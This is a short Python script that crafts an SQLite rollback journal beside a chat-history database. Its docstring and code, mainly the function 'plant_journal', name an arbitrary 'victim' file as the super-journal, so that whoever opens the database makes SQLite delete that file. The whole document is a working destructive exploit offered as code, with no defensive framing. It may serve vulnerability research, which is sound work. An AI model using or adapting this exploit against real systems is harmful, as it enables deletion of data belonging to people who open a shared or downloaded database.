"""A history that makes SQLite delete a file when it is opened.

A journal may name a super-journal, which belongs to several databases. Anyone who opens
the database rolls the journal back, and deletes the super-journal if no other journal
needs it: any file. https://www.sqlite.org/fileformat.html#the_rollback_journal
"""

import sqlite3
from contextlib import closing
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
PAGE, SECTOR = 1024, 512  # bytes
LOCK_BYTE = 1 << 30  # the page with this byte is never used: it marks the name
TABLES = "CREATE TABLE messages (text); CREATE TABLE channels (name);"


def make_history(file: Path) -> None:
    """Write a database with the chat's tables."""
    with closing(sqlite3.connect(file)) as connection:
        connection.executescript(f"PRAGMA page_size = {PAGE}; {TABLES}")


def plant_journal(database: Path, victim: Path) -> None:
    """Write a journal beside a database which makes SQLite delete the victim."""
    pages = database.stat().st_size // PAGE
    numbers = (0, 0, pages, SECTOR, PAGE)  # of pages to restore: none
    header = MAGIC + b"".join(number.to_bytes(4, "big") for number in numbers)
    name = bytes(victim)
    record = (LOCK_BYTE // PAGE + 1).to_bytes(4, "big") + name
    record += len(name).to_bytes(4, "big") + sum(name).to_bytes(4, "big") + MAGIC
    journal = Path(f"{database}-journal")
    journal.write_bytes(header.ljust(SECTOR, b"\0") + record)
